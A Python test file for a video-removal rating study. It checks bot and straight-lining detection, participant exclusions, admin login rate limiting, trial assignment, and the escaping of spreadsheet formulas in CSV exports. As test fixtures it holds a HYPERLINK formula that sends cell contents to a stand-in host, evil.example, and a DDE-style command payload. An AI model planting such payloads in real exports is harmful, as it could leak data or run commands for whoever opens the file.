"""Who is counted: a fast always-"Left" bot is flagged and excluded; formula cells are
neutralised in the admin and analysis CSVs; the admin login is rate-limited; repeated
comparisons reach their raters; salted videos still decode to the same frames."""

from __future__ import annotations

import csv
import io
import json
import logging
from pathlib import Path

import numpy as np
import pytest

from evaluate.study import analysis, design, media, quality
from evaluate.study.config import StudyAnalyzeConfig
from evaluate.study.guard import LoginLimiter
from evaluate.study.store import csv_text, neutralize

METHODS = ["oracle-removed", "blend", "oracle-hidden", "identity"]
STRENGTH = {"oracle-removed": 1.5, "blend": 0.3, "oracle-hidden": -0.2, "identity": -1.5}
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _honest(store, methods_of, token):
    """Picks the better result after watching; which side that is follows the random layout."""
    while (state := store.participant(token)).trial is not None:
        names = methods_of(store, state.trial.trial_id)
        best = max(range(len(names)), key=lambda i: STRENGTH[names[i]])
        store.record_vote(token, state.trial.trial_id, best, response_ms=4200, playback_ms=3900)
    store.finish(token)


def test_fast_left_bot_is_flagged_and_excluded_and_csvs_are_neutralised(sqlite_url, make_study, methods_of, tmp_path, capsys):
    store = make_study(sqlite_url, check_videos=True, methods=METHODS, trials_per_participant=12)
    for k in range(5):
        _honest(store, methods_of, store.create_participant(external_id=f"worker-{k}", external_source="PROLIFIC_PID"))
    bot = store.create_participant(external_id=INJECTION, external_source="PROLIFIC_PID")
    while (state := store.participant(bot)).trial is not None:
        store.record_vote(bot, state.trial.trial_id, 0, response_ms=350, playback_ms=200)  # "Left", at once
    store.finish(bot)
    bot_id = store.participant(bot).id
    quitter = store.create_participant(external_id="quitter", external_source="PROLIFIC_PID")
    _honest_one = store.participant(quitter).trial
    store.record_vote(quitter, _honest_one.trial_id, 1, response_ms=5000, playback_ms=4800)

    out = tmp_path / "out"
    # 13/13 on one side has p = 2 * 2**-13 = 0.00024: flagged; an honest participant's
    # random sides reach that once in 4096 (12/13, p = 0.0034, is not flagged)
    rules = {"flag_position_p": 0.0005, "flag_run_length": 14}
    cfg = StudyAnalyzeConfig(db=sqlite_url, out=str(out), bootstrap=200, **rules)
    assert analysis.analyze(cfg) == 0
    printed = capsys.readouterr().out
    result = json.loads((out / "analysis.json").read_text())
    ex = result["exclusions"]
    quitter_id = store.participant(quitter).id
    assert ex["excluded"] == sorted([bot_id, quitter_id])
    assert {k: ex["by_reason"][k] for k in ("incomplete", "duplicate", "flagged")} == {"incomplete": 1, "duplicate": 0, "flagged": 1}
    bot_row = next(r for r in ex["participants"] if r["participant"] == bot_id)
    assert bot_row["reasons"][-1] == "flagged"  # (and failed-gold when "Left" was the bad result)
    assert any(f.startswith("position-bias: 13/13 answers left") for f in bot_row["flags"])
    assert any(f.startswith("too-fast: 13/13") for f in bot_row["flags"])
    assert f"excluded participant {bot_id}: " in printed and "position-bias" in printed
    # the quitter's one answer may have been a gold trial answered wrongly: then failed-gold too
    quitter_line = next(x for x in printed.splitlines() if x.strip().startswith(f"excluded participant {quitter_id}: "))
    assert quitter_line.split(": ", 1)[1].startswith("incomplete") and "answered 1 of 13 trials" in quitter_line
    assert result["counts"]["included"] == 5 and result["counts"]["votes_main_included"] == 5 * 12

    # --include-flagged --include-failed-gold --include-incomplete keep everyone
    everyone = analysis.compute(store.definition(), store.export_votes(), store.export_participants(),
                                StudyAnalyzeConfig(db=sqlite_url, out=str(out), bootstrap=0, **rules,
                                                   include_flagged=True, include_failed_gold=True, include_incomplete=True))
    assert everyone["exclusions"]["excluded"] == [] and everyone["counts"]["included"] == 7

    # analysis votes.csv: the bot's id is text, not a formula
    with open(out / "votes.csv", newline="") as fh:
        ids = {r["external_id"] for r in csv.DictReader(fh)}
    assert "'" + INJECTION in ids and INJECTION not in ids
    # admin participants.csv: the same text the admin page offers for download
    admin_rows = list(csv.DictReader(io.StringIO(csv_text(store.export_participants()))))
    assert [r["external_id"] for r in admin_rows if r["external_id"].endswith('"click")')] == ["'" + INJECTION]


def test_admin_download_is_neutralised(monkeypatch, sqlite_url, make_study):
    pytest.importorskip("streamlit")
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.testing.v1 import AppTest

    from study_support import APP

    downloads = {}
    add = MediaFileManager.add

    def recording_add(self, data, mimetype, coordinates, file_name=None, is_for_static_download=False):
        if is_for_static_download:
            downloads[file_name] = data
        return add(self, data, mimetype, coordinates, file_name, is_for_static_download)

    monkeypatch.setattr(MediaFileManager, "add", recording_add)

    store = make_study(sqlite_url)
    store.create_participant(external_id="@SUM(1+1)*cmd|' /C calc'!A0", external_source="workerId")
    monkeypatch.setenv("VOID_STUDY_DB", sqlite_url)
    monkeypatch.setenv("VOID_STUDY_ADMIN_TOKEN", "admin-secret")
    at = AppTest.from_file(str(APP), default_timeout=60)
    at.query_params["admin"] = "1"
    at = at.run()
    at = at.text_input(key="admin_token_input").input("admin-secret").run()
    text = downloads["participants.csv"]
    text = text.decode() if isinstance(text, bytes) else text
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in text and ",@SUM" not in text


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@A1", "\tx", "\rx"])
def test_formula_starts_are_neutralised(cell):
    assert neutralize(cell) == "'" + cell
    assert neutralize(-2.5) == -2.5 and neutralize(None) is None and neutralize("ok") == "ok"


def test_admin_login_is_rate_limited_and_logged(caplog):
    now = [0.0]
    limiter = LoginLimiter(max_failures=3, window_s=60, clock=lambda: now[0])
    with caplog.at_level(logging.WARNING, logger="void.study.admin"):
        for _ in range(3):
            assert limiter.wait_s("10.0.0.1") == 0
            limiter.failed("10.0.0.1")
    assert limiter.wait_s("10.0.0.1") == pytest.approx(60)
    assert limiter.wait_s("10.0.0.2") == 0  # another client has its own budget
    assert len([r for r in caplog.records if "admin login failed from 10.0.0.1" in r.getMessage()]) == 3
    now[0] = 61.0
    assert limiter.wait_s("10.0.0.1") == 0  # the window passed


def test_straight_lining_and_fast_answers_are_flagged():
    votes = [{"position": k, "choice_position": 1, "shown": ["a", "b"], "playback_ms": 300, "clip_ms": 4000,
              "response_ms": 500} for k in range(12)]
    flags = quality.flags_for(votes, quality.FlagRules())
    assert [f.split(":")[0] for f in flags] == ["position-bias", "straight-lining", "too-fast"]
    assert "answers right" in flags[0]
    alternating = [dict(v, choice_position=k % 2, playback_ms=5000) for k, v in enumerate(votes)]
    assert quality.flags_for(alternating, quality.FlagRules()) == []


def test_repeated_comparisons_reach_their_raters():
    main = list(range(40))
    counts: dict[int, int] = {}
    for p in range(9):
        plan = design.assign_trials(main, [], {i: [1, 2] for i in main}, counts, 8, 0, seed=p, repeat_share=0.5, repeat_raters=3)
        for item, _ in plan:
            counts[item] = counts.get(item, 0) + 1
    assert sum(counts.values()) == 9 * 8
    assert sum(c >= 3 for c in counts.values()) >= 12  # every 3 participants complete 4+ comparisons
    no_repeat: dict[int, int] = {}
    for p in range(9):
        for item, _ in design.assign_trials(main, [], {i: [1, 2] for i in main}, no_repeat, 8, 0, seed=p):
            no_repeat[item] = no_repeat.get(item, 0) + 1
    assert sum(c >= 3 for c in no_repeat.values()) == 0  # spread evenly: 72 judgments over 40 comparisons


def test_salted_video_decodes_to_the_same_frames(tmp_path, predictions):
    from void import video

    src = next(Path(predictions, "identity").glob("*.mp4"))
    data = src.read_bytes()
    a, b = media.salted(data, "video/mp4"), media.salted(data, "video/mp4")
    assert a != b and a.startswith(data) and b.startswith(data)
    (tmp_path / "a.mp4").write_bytes(a)
    assert np.array_equal(video.read_video(tmp_path / "a.mp4"), video.read_video(src))


def test_marked_region_is_tinted_and_outlined_only_there():
    from void import quadmask

    frames = np.full((2, 12, 12, 3), 100, np.uint8)
    mask = np.full((2, 12, 12), quadmask.KEEP, np.uint8)
    mask[:, 3:8, 3:8] = quadmask.REMOVE
    mask[:, 9:, 9:] = quadmask.AFFECTED
    out = media.mark_region(frames, mask)
    assert (out[:, 3, 3] == media.OVERLAY_RGB).all()  # edge of the region: the outline colour
    inner = out[:, 5, 5].astype(int)
    assert inner[0, 0] > 100 and inner[0, 1] < 100  # tinted towards red
    assert (out[mask != quadmask.REMOVE] == 100).all()  # nothing else changes


def test_later_sessions_of_one_platform_id_are_duplicates():
    """Databases from before one-session-per-id can hold two sessions of one id: the first counts."""
    people = [{"participant": p, "external_source": "PROLIFIC_PID", "external_id": x, "completed_at": "t", "votes": 0, "trials": 0}
              for p, x in [(1, "a"), (2, "b"), (3, "a")]]
    rows = quality.assess([], people, gold_min_accuracy=1.0)
    assert [r["reasons"] for r in rows] == [[], [], ["duplicate"]]
    assert rows[2]["notes"] == ["platform id already used by participant 1"]
    assert quality.excluded(rows, include=set()) == {3: ["duplicate"]}
    assert quality.excluded(rows, include={"duplicate"}) == {}
